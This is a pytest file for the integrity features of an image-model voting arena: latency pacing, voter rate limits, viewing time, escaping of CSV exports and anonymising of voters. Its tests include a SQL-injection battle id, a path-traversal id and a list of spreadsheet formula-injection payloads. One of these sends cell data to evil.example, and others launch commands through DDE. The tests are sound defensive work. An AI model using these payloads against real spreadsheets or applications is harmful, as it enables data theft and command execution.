"""Arena integrity (issue 13): latency independent of the pair, identity-keyed limits and caps, a minimum viewing
time, no repeated cached battles, escaped CSV exports, rotated or dropped voter pseudonyms, the vote mirror."""
from __future__ import annotations

import csv
import json
import statistics
import threading
import time

import pytest
from PIL import Image

from studio.arena import LABELS, Arena, ArenaConfig, LivePacer
from studio.arena_cache import ArenaError, PromptItem, RateLimitError, TooSoonError, build_cache
from studio.arena_votes import (
    VoteMirror,
    csv_cell,
    export_votes,
    load_votes,
    read_export,
    read_setting,
    restore_votes,
    write_setting,
)
from tests.studio.test_arena import POOL, DrawingGenerator, model_in_image

NO_LIMITS = dict(votes_per_minute=None, battles_per_minute=None)


class SlowGenerator(DrawingGenerator):
    """Each model takes its own time, as SDXL, SSD-1B and Vega do (the teacher about twice Vega's)."""

    DELAYS = {"sdxl-base": 0.16, "ssd-1b": 0.09, "vega": 0.03}

    def __call__(self, model, prompt, seed, settings):
        time.sleep(self.DELAYS[model])
        return super().__call__(model, prompt, seed, settings)


def pair_latencies(arena: Arena, battles: int) -> dict[frozenset, list[float]]:
    out: dict[frozenset, list[float]] = {}
    for _ in range(battles):
        start = time.perf_counter()
        battle = arena.new_battle("a red circle on a green background", "v")
        elapsed = time.perf_counter() - start
        pair = frozenset(model_in_image(battle["images"][label]) for label in LABELS)
        out.setdefault(pair, []).append(elapsed)
    return out


def spread(latencies: dict[frozenset, list[float]]) -> float:
    means = [statistics.mean(v) for v in latencies.values()]
    return max(means) - min(means)


def test_live_latency_does_not_depend_on_the_pair(tmp_path):
    """Issue 13 (2): battles with the teacher took 3.3-4 s, ssd+vega 2.5 s, so latency named the pair. Paced
    battles all answer at the slowest pair's deadline; measured side by side with unpaced ones in one run."""
    timed = {}
    for pace in (False, True):
        arena = Arena(tmp_path / f"{pace}.db", POOL, SlowGenerator(), config=ArenaConfig(pace_live=pace, **NO_LIMITS))
        arena.new_battle("warm-up", "v")  # calibrates every model (paced) / warms up (unpaced)
        timed[pace] = pair_latencies(arena, 15)
        assert len(timed[pace]) == 3, "every pair should come up in 15 battles"
    unpaced, paced = spread(timed[False]), spread(timed[True])
    print(f"\nper-pair mean latency spread: unpaced {unpaced * 1000:.0f} ms, paced {paced * 1000:.0f} ms; "
          f"paced deadline {statistics.mean(statistics.mean(v) for v in timed[True].values()) * 1000:.0f} ms")
    assert unpaced > 0.08  # the pairs really differ (0.12 s vs 0.25 s of generation)
    assert paced < 0.25 * unpaced and paced < 0.03


def test_pacer_deadline_is_the_slowest_pair():
    pacer = LivePacer(margin=1.5)
    assert pacer.missing(["a", "b", "c"]) == ["a", "b", "c"] and pacer.deadline(["a", "b", "c"]) == 0.0
    for model in "abc":
        pacer.record(model, 30.0)  # first generation: loading the weights, not counted
    assert pacer.missing(["a", "b", "c"]) == ["a", "b", "c"]
    for model, seconds in (("a", 1.0), ("a", 3.0), ("a", 2.0), ("b", 0.5), ("c", 1.0)):
        pacer.record(model, seconds)
    assert pacer.missing(["a", "b", "c"]) == []
    assert pacer.deadline(["a", "b", "c"]) == pytest.approx(1.5 * (2.0 + 1.0))  # medians of the two slowest


def test_calibration_images_never_reach_the_voter(tmp_path):
    generator = DrawingGenerator()
    arena = Arena(tmp_path / "c.db", POOL, generator, config=ArenaConfig(**NO_LIMITS))
    battle = arena.new_battle("a fox", "v")
    shown = {model_in_image(battle["images"][label]) for label in LABELS}
    assert len(generator.calls) == 6 and len(shown) == 2  # each model warmed up and timed once
    arena.new_battle("a fox", "v")
    assert len(generator.calls) == 8  # calibrated: only the pair from now on
    reveal = arena.vote(battle["battle_id"], "A", "v")
    assert {reveal["Model A"], reveal["Model B"]} == shown


class TestVoterLimits:
    def test_battle_and_vote_rate_follow_the_voter(self, tmp_path):
        """Issue 13 (3): limits keyed on the session let a new session per battle vote without limit. The core
        never sees sessions: one voter (an address or a signed-in user) is one bucket."""
        arena = Arena(tmp_path / "r.db", POOL, DrawingGenerator(),
                      config=ArenaConfig(votes_per_minute=3, battles_per_minute=4))
        battles = [arena.new_battle(None, "ip:1.2.3.4") for _ in range(4)]
        with pytest.raises(RateLimitError, match="at most 4 per minute"):
            arena.new_battle(None, "ip:1.2.3.4")
        for b in battles[:3]:
            arena.vote(b["battle_id"], "A", "ip:1.2.3.4")
        with pytest.raises(RateLimitError, match="at most 3 per minute"):
            arena.vote(battles[3]["battle_id"], "A", "ip:1.2.3.4")
        arena.new_battle(None, "ip:5.6.7.8")  # another visitor is unaffected

    def test_daily_cap_survives_a_restart(self, tmp_path):
        config = ArenaConfig(votes_per_day=2, **NO_LIMITS)
        arena = Arena(tmp_path / "d.db", POOL, DrawingGenerator(), config=config)
        for _ in range(2):
            arena.vote(arena.new_battle(None, "hf:alice")["battle_id"], "B", "hf:alice")
        restarted = Arena(tmp_path / "d.db", POOL, DrawingGenerator(), config=config)
        battle = restarted.new_battle(None, "hf:alice")
        with pytest.raises(RateLimitError, match="daily maximum of 2"):
            restarted.vote(battle["battle_id"], "A", "hf:alice")
        restarted.vote(restarted.new_battle(None, "hf:bob")["battle_id"], "A", "hf:bob")
        assert len(load_votes(tmp_path / "d.db")) == 3

    def test_minimum_viewing_time(self, tmp_path):
        arena = Arena(tmp_path / "m.db", POOL, DrawingGenerator(),
                      config=ArenaConfig(min_view_seconds=0.4, **NO_LIMITS))
        battle = arena.new_battle(None, "v")
        with pytest.raises(TooSoonError, match=r"at least 0.4 s before voting"):
            arena.vote(battle["battle_id"], "A", "v")
        time.sleep(0.45)
        assert arena.vote(battle["battle_id"], "A", "v")["vote"] == "A"
        assert len(load_votes(arena.db_path)) == 1

    # hostile battle ids and votes sent through the API
    @pytest.mark.hostile
    @pytest.mark.parametrize("battle_id", [None, "", "' OR 1=1 --", "x" * 10_000, 12345, "../../votes.db"])
    def test_hostile_battle_ids(self, tmp_path, battle_id):
        arena = Arena(tmp_path / "h.db", POOL, DrawingGenerator(), config=ArenaConfig(**NO_LIMITS))
        arena.new_battle(None, "v")
        with pytest.raises(ArenaError, match="Unknown battle id") as err:
            arena.vote(battle_id, "A", "v")
        assert len(str(err.value)) < 120  # the echo is cut short
        assert load_votes(arena.db_path) == []


def test_no_repeated_cached_battle_for_a_voter(tmp_path):
    """A voter who saw a cached battle revealed would recognise its images later: never serve it twice."""
    build_cache(POOL[:2], [PromptItem("shapes", "a red circle"), PromptItem("shapes", "a blue star")], [7],
                DrawingGenerator(), tmp_path / "cache")
    arena = Arena(tmp_path / "c.db", None, None, cache_dir=tmp_path / "cache",
                  config=ArenaConfig(repeat_cached=False, **NO_LIMITS))
    prompts = {arena.new_battle(None, "v")["prompt"] for _ in range(2)}
    assert prompts == {"a red circle", "a blue star"}
    with pytest.raises(ArenaError, match="seen every cached battle"):
        arena.new_battle(None, "v")
    assert arena.new_battle(None, "w")["source"] == "cache"


# formula-injection payloads a visitor can type as a battle prompt (OWASP CSV injection)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C x'!A0",
            "\t=1+1", "\r=1+1", "'=1+1", '=cmd|" /C notepad"!A0', "=IMPORTXML(CONCAT(\"http://x/\",A2),\"//a\")",
            "＝1+1"]


def test_csv_export_escapes_formulas(tmp_path):
    """Issue 13 (8): a prompt ``=HYPERLINK(...)`` went unescaped into the CSV export."""
    arena = Arena(tmp_path / "f.db", POOL, DrawingGenerator(), config=ArenaConfig(**NO_LIMITS))
    for prompt in FORMULAS:
        arena.vote(arena.new_battle(prompt, "v")["battle_id"], "tie", "v")
    out = tmp_path / "votes.csv"
    export_votes(arena.db_path, out, voters="keep")
    with out.open(newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_prompt = {r["prompt"]: r for r in read_export(out)}
    assert set(by_prompt) == {p.strip() for p in FORMULAS}  # the arena strips surrounding whitespace
    assert read_export(out) == load_votes(arena.db_path)  # escaping round-trips exactly
    assert csv_cell("-0.5") == "'-0.5" and csv_cell(-0.5) == -0.5 and csv_cell("a=b") == "a=b"


def test_export_voter_policies(tmp_path):
    """Issue 13 (8): exports carried linkable per-session pseudonyms."""
    arena = Arena(tmp_path / "p.db", POOL, DrawingGenerator(), config=ArenaConfig(**NO_LIMITS))
    for voter in ("ip:1.1.1.1", "ip:1.1.1.1", "ip:2.2.2.2"):
        arena.vote(arena.new_battle(None, voter)["battle_id"], "A", voter)
    stored = [v["voter"] for v in load_votes(arena.db_path)]
    exports = {}
    for policy in ("keep", "rotate", "drop"):
        for fmt in ("csv", "json"):
            out = tmp_path / f"{policy}.{fmt}"
            export_votes(arena.db_path, out, voters=policy)
            exports[policy, fmt] = read_export(out)
    assert [v["voter"] for v in exports["keep", "json"]] == stored
    for fmt in ("csv", "json"):
        assert all("voter" not in v for v in exports["drop", fmt])
        assert "ip:" not in (tmp_path / f"drop.{fmt}").read_text() and stored[0] not in (tmp_path / f"drop.{fmt}"
                                                                                        ).read_text()
        rotated = [v["voter"] for v in exports["rotate", fmt]]
        assert rotated[0] == rotated[1] != rotated[2] and not set(rotated) & set(stored)
    assert exports["rotate", "csv"][0]["voter"] != exports["rotate", "json"][0]["voter"]  # unlinkable across exports
    with pytest.raises(ValueError, match="keep, rotate, drop"):
        export_votes(arena.db_path, tmp_path / "x.csv", voters="hash")


def test_votes_mirror_to_shards_and_restore(tmp_path):
    """Without persistent storage the votes go to JSONL shards (what CommitScheduler pushes to a dataset) and come
    back from them into an empty database after a restart."""
    lock = threading.Lock()
    mirror = VoteMirror(tmp_path / "shards", lock=lock)
    arena = Arena(tmp_path / "a.db", POOL, DrawingGenerator(), config=ArenaConfig(**NO_LIMITS), mirror=mirror)
    for vote in ("A", "B", "tie", "bad", "A"):
        arena.vote(arena.new_battle(None, "ip:3.3.3.3")["battle_id"], vote, "ip:3.3.3.3")
    [shard] = list((tmp_path / "shards").glob("votes-*.jsonl"))
    lines = [json.loads(line) for line in shard.read_text().splitlines()]
    assert len(lines) == 5 and all("voter" not in r for r in lines) and "3.3.3.3" not in shard.read_text()
    assert restore_votes(tmp_path / "fresh.db", tmp_path / "shards") == 5
    assert restore_votes(tmp_path / "fresh.db", tmp_path / "shards") == 0  # idempotent
    original, restored = load_votes(tmp_path / "a.db"), load_votes(tmp_path / "fresh.db")
    strip = ("id", "voter")
    assert [{k: v for k, v in r.items() if k not in strip} for r in restored] == \
           [{k: v for k, v in r.items() if k not in strip} for r in original]


def test_settings_stored_in_the_database(tmp_path):
    db = tmp_path / "s.db"
    assert read_setting(db, "pool") is None
    Arena(db, POOL, DrawingGenerator())
    write_setting(db, "pool", ["vega", "ssd-1b"])
    assert read_setting(db, "pool") == ["vega", "ssd-1b"]


def test_old_database_gains_the_served_at_column(tmp_path):
    """A votes.db written before this change (no served_at) keeps its votes and takes new battles."""
    import sqlite3

    db = tmp_path / "old.db"
    con = sqlite3.connect(db)
    con.executescript("""
        CREATE TABLE battles (id TEXT PRIMARY KEY, created_at REAL NOT NULL, prompt TEXT NOT NULL,
            category TEXT NOT NULL, settings TEXT NOT NULL, model_a TEXT NOT NULL, model_b TEXT NOT NULL,
            seed INTEGER NOT NULL, status TEXT NOT NULL, source TEXT NOT NULL, image_a TEXT NOT NULL,
            image_b TEXT NOT NULL, session TEXT NOT NULL);
        INSERT INTO battles VALUES ('b0', 1.0, 'p', 'c', '{}', 'vega', 'ssd-1b', 1, 'open', 'live', '', '', 'x');""")
    con.commit()
    con.close()
    arena = Arena(db, POOL, DrawingGenerator(), config=ArenaConfig(**NO_LIMITS))
    arena.vote(arena.new_battle(None, "v")["battle_id"], "A", "v")
    assert len(load_votes(db)) == 1


def test_images_carry_no_model_metadata(tmp_path):
    arena = Arena(tmp_path / "i.db", POOL, DrawingGenerator(), config=ArenaConfig(save_images=False, **NO_LIMITS))
    battle = arena.new_battle(None, "v")
    assert "paths" not in battle and not (tmp_path / "arena_images").exists()
    assert all(isinstance(im, Image.Image) and im.info == {} for im in battle["images"].values())
